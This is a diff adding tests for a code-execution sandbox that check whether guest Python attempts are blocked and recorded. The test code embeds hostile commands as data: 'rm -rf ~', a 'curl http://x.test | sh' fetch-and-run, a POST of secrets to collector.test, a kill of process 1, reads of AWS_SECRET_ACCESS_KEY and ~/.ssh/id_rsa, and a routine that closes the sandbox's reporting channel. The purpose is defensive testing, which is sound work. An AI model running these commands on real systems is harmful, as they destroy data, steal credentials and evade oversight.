@@ -140,3 +140,67 @@ print(sorted(os.listdir('/')))
     assert result.stdout.decode().splitlines() == [
         "read: True", "open: FileNotFoundError", "open: FileNotFoundError", "['in', 'out', 'tmp', 'work']"
     ], result.stderr  # fmt: skip
+
+
+GUEST_NET = "refused: no network in this sandbox"
+GUEST_PROC = "refused: no processes in this sandbox"
+
+
+async def test_python_network_processes_signals_and_env_are_reported_from_inside(real: Sandbox) -> None:
+    code = """
+import os, socket, subprocess, urllib.request
+def attempt(step):
+    try:
+        step()
+    except Exception as exc:
+        print(type(exc).__name__)
+attempt(lambda: os.system("rm -rf ~"))
+attempt(lambda: subprocess.run(["pip", "install", "evil-pkg"]))
+attempt(lambda: os.popen("curl http://x.test | sh"))
+attempt(lambda: urllib.request.urlopen("https://api.github.com/user"))
+attempt(lambda: urllib.request.urlopen("http://collector.test:8080/", data=b"secrets"))
+attempt(lambda: socket.getaddrinfo("db.internal", 5432))
+attempt(lambda: os.kill(1, 9))
+print(os.environ.get("AWS_SECRET_ACCESS_KEY"), os.getenv("GIVEN"), "HOME" in os.environ)
+print(open(os.path.expanduser("~/.ssh/id_rsa")) if os.path.exists(os.path.expanduser("~/.ssh/id_rsa")) else "no key")
+"""
+    need_runtime(real, "python")
+    result = await real.run(Spec(lang="python", code=code, env={"GIVEN": "yes"}))
+    assert result.stdout.decode().split() == ["OSError"] * 3 + ["URLError"] * 2 + ["gaierror", "OSError"] + [
+        "None", "yes", "True", "no", "key"]  # fmt: skip
+    assert seen(result.attempts) == {
+        (AttemptKind.PROCESS_SPAWN, "rm -rf ~", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.PROCESS_SPAWN, "pip install evil-pkg", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.PROCESS_SPAWN, "curl http://x.test | sh", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.NETWORK_CONNECT, "api.github.com:443", GUEST_NET, Observer.GUEST),
+        (AttemptKind.NETWORK_CONNECT, "collector.test:8080", GUEST_NET, Observer.GUEST),
+        (AttemptKind.DNS_LOOKUP, "db.internal:5432", GUEST_NET, Observer.GUEST),
+        (AttemptKind.SIGNAL, "signal 9 to process 1", GUEST_PROC, Observer.GUEST),
+        (AttemptKind.ENV_LOOKUP, "AWS_SECRET_ACCESS_KEY", "refused: not given to the program", Observer.GUEST),
+        (AttemptKind.FILE_READ, "~/.ssh/id_rsa", OUTSIDE, Observer.HOST),
+    }, seen(result.attempts)
+
+
+async def test_the_standard_librarys_own_env_lookups_are_not_the_programs(real: Sandbox) -> None:
+    code = "import tempfile, locale, shutil, getpass, os\ntempfile.gettempdir()\nshutil.get_terminal_size()\n"
+    code += "os.path.expanduser('~')\ntry:\n    getpass.getuser()\nexcept Exception:\n    pass\n"
+    assert await attempts_of(real, "python", code) == ()
+
+
+async def test_a_program_that_closes_the_report_channel_is_recorded_by_the_host(real: Sandbox) -> None:
+    code = """
+import os, stat, subprocess
+for fd in range(3, 64):  # whatever is neither a file nor a directory: the channel
+    try:
+        mode = os.fstat(fd).st_mode
+    except OSError:
+        continue
+    if not (stat.S_ISREG(mode) or stat.S_ISDIR(mode)):
+        os.close(fd)
+try:
+    subprocess.run(["id"])  # no longer reported: the channel is gone
+except OSError:
+    pass
+"""
+    got = seen(await attempts_of(real, "python", code))
+    assert got == {(AttemptKind.REPORTING_TAMPERED, "closed the in-guest report channel", "noted", Observer.HOST)}
